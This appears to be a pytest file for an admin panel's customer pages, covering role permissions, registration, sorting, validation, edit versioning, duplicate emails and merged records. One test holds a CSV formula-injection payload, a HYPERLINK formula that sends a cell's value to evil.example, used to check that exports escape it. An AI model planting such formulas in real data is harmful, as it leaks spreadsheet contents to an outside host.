"""Customers in the panel: register, change details (others' contact points kept), who may."""

from __future__ import annotations

import csv
import io

from tests.web.admin.conftest import Desk, Panel
from tests.web.admin.matrix import READ, WRITE, assert_matrix, customer


def test_role_matrix_of_the_customers_views(panel: Panel) -> None:
    on = f"?id={customer(panel)}"
    assert_matrix(panel, [
        ("GET /admin/customers/", "", None, READ), ("GET /admin/customers/details/" + on, "", None, READ),
        ("GET /admin/customers/export/csv/", "", None, READ), ("GET /admin/customers/new/", "", None, WRITE),
        ("POST /admin/customers/new/", "", {"name": ""}, WRITE), ("GET /admin/customers/edit/" + on, "", None, WRITE),
        ("POST /admin/customers/edit/" + on, "", {"name": ""}, WRITE),
        ("POST /admin/customers/delete/", "", {"id": on[4:]}, WRITE)])


def test_register_a_customer_and_find_them(stored_desk: Desk) -> None:
    panel, agent = stored_desk
    response = panel.post(agent, "/admin/customers/new/", {
        "kind": "company", "name": "Globex Ltd", "email": "buyers@globex.example", "phone": "+1 555 0100",
        "sector": "retail", "size": "", "location": "Springfield"})
    assert response.status_code == 302
    page = agent.get("/admin/customers/?search=globex").get_data(as_text=True)
    assert "Globex Ltd" in page and "buyers@globex.example" in page


def test_names_sort_regardless_of_case_in_the_list_and_the_pickers(stored_panel: Panel) -> None:
    app, now = stored_panel.services.app, stored_panel.clock.now()
    for name in ("Zeta Corp", "acme ltd", "Beta Inc"):
        app.register_customer(name=name, occurred_at=now, actor="system:test")
    stored_panel.catch_up()
    agent = stored_panel.client("agent")
    for url in ("/admin/customers/", "/admin/customers/?sort=0", "/admin/cases/ajax/lookup/?name=customer_id&query="):
        page = agent.get(url).get_data(as_text=True)
        shown = [page.index(n) for n in ("acme ltd", "Beta Inc", "Zeta Corp")]
        assert shown == sorted(shown), url  # "acme" among the A's, not after "Zeta"


def test_a_name_typed_as_a_formula_is_exported_as_text(stored_desk: Desk) -> None:
    panel, agent = stored_desk
    name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    panel.services.app.register_customer(name=name, occurred_at=panel.clock.now(), actor="system:public-form")
    panel.catch_up()
    rows = list(csv.DictReader(io.StringIO(agent.get("/admin/customers/export/csv/?search=evil").get_data(as_text=True))))
    assert [row["Name"] for row in rows] == ["'" + name]


def test_a_bad_email_is_shown_on_the_email_field(panel: Panel) -> None:
    agent = panel.client("agent")
    before = panel.event_count()
    page = panel.post(agent, "/admin/customers/new/", {"kind": "person", "name": "Bob", "email": "bob-at-home"}
                      ).get_data(as_text=True)
    assert "is not an email address" in page.split('id="email"', 1)[1][:500]
    assert panel.event_count() == before


def test_changing_details_keeps_contact_points_the_form_does_not_show(desk: Desk) -> None:
    panel, agent = desk
    receipt = panel.services.app.register_customer(
        name="Ada", contact_points=[{"kind": "email", "value": "ada@example.com"},
                                    {"kind": "address", "value": "12 St James's Square"}],
        segment={"sector": "science", "tier": "gold"}, occurred_at=panel.clock.now(), actor="system:test")
    panel.catch_up()
    url = f"/admin/customers/edit/?id={receipt.id}"
    form = agent.get(url).get_data(as_text=True)
    assert 'value="ada@example.com"' in form
    response = panel.post(agent, url, {"name": "Ada King", "email": "ada@king.example", "phone": "",
                                       "sector": "science", "size": "", "location": "", "version": "1"})
    assert response.status_code == 302
    changed = panel.services.app.get_customer(receipt.id)
    assert changed.name == "Ada King"
    assert changed.contact_points == [{"kind": "email", "value": "ada@king.example"},
                                      {"kind": "address", "value": "12 St James's Square"}]
    assert changed.segment == {"sector": "science", "tier": "gold"}


def test_typing_one_of_their_other_addresses_as_the_email_keeps_it_once(desk: Desk) -> None:
    panel, agent = desk
    rita = panel.services.app.register_customer(
        name="Rita", contact_points=[{"kind": "email", "value": "rita@example.com"},
                                     {"kind": "email", "value": "rita@work.example"}],
        occurred_at=panel.clock.now(), actor="system:test").id
    panel.catch_up()
    response = panel.post(agent, f"/admin/customers/edit/?id={rita}", {
        "name": "Rita", "email": "Rita@Work.example", "phone": "", "sector": "", "size": "", "location": "",
        "version": "1"})
    assert response.status_code == 302
    assert panel.services.app.get_customer(rita).contact_points == [{"kind": "email", "value": "rita@work.example"}]


def test_an_edit_posted_without_the_version_the_page_showed_is_refused(desk: Desk) -> None:
    panel, agent = desk
    customer_id = customer(panel)
    before = panel.event_count()
    page = panel.post(agent, f"/admin/customers/edit/?id={customer_id}", {
        "name": "Ada King", "email": "ada@example.com", "phone": "", "sector": "", "size": "", "location": ""},
        follow_redirects=True).get_data(as_text=True)
    assert "did not say which version of the record you saw" in page
    assert panel.event_count() == before


def test_records_are_never_deleted(panel: Panel) -> None:
    customer_id = customer(panel)
    admin = panel.client("admin")
    page = panel.post(admin, "/admin/customers/delete/", {"id": str(customer_id)},
                      token_from="/admin/customers/", follow_redirects=True).get_data(as_text=True)
    assert "Ada Lovelace" in page
    assert panel.services.app.get_customer(customer_id).name == "Ada Lovelace"


def test_an_email_address_another_customer_has_is_refused_on_the_field_naming_them(desk: Desk) -> None:
    """One customer per address, as the API, mail and the public forms keep it (case aside)."""
    panel, agent = desk
    ada = customer(panel)  # ada@example.com
    bob = panel.services.app.register_customer(name="Bob", contact_points=[{"kind": "email", "value": "bob@example.com"}],
                                               occurred_at=panel.clock.now(), actor="system:test").id
    panel.catch_up()
    before = panel.event_count()
    page = panel.post(agent, "/admin/customers/new/", {"kind": "person", "name": "Ada again",
                                                       "email": "ADA@example.com"}).get_data(as_text=True)
    assert f"Ada Lovelace (customer {ada}) has this email address already" in page.split('id="email"', 1)[1][:800]
    edit = panel.post(agent, f"/admin/customers/edit/?id={bob}", {
        "name": "Bob", "email": "ada@example.com", "phone": "", "sector": "", "size": "", "location": "",
        "version": "1"}).get_data(as_text=True)
    assert "has this email address already" in edit.split('id="email"', 1)[1][:800]
    assert panel.event_count() == before
    same = panel.post(agent, f"/admin/customers/edit/?id={ada}", {  # its own address: saved
        "name": "Ada King", "email": "ada@example.com", "phone": "", "sector": "", "size": "", "location": "",
        "version": "1"})
    assert same.status_code == 302 and panel.services.app.get_customer(ada).name == "Ada King"


def test_a_segment_value_longer_than_the_api_allows_is_refused_on_its_field(panel: Panel) -> None:
    agent = panel.client("agent")
    before = panel.event_count()
    page = panel.post(agent, "/admin/customers/new/", {"kind": "company", "name": "Globex", "email": "",
                                                       "location": "x" * 51}).get_data(as_text=True)
    assert "is longer than 50 characters" in page.split('id="location"', 1)[1][:500]
    assert panel.event_count() == before


def test_a_merged_away_duplicate_is_marked_in_the_list(desk: Desk) -> None:
    """Its own figures stopped at the merge (the survivor's row counts them): it must not pass for
    a customer of its own."""
    panel, agent = desk
    app, now = panel.services.app, panel.clock.now()
    survivor = app.register_customer(name="Wei Fischer", occurred_at=now, actor="system:test").id
    duplicate = app.register_customer(name="Wei Fischer", occurred_at=now, actor="system:test").id
    app.merge_customers(duplicate, survivor_id=survivor, occurred_at=now, actor="system:test")
    panel.catch_up()
    page = agent.get("/admin/customers/?search=Wei").get_data(as_text=True)
    rows = {cid: page.split(f"/admin/customer360/{cid}", 1)[1][:300] for cid in (survivor, duplicate)}
    assert ">merged</span>" in rows[duplicate] and ">merged</span>" not in rows[survivor]
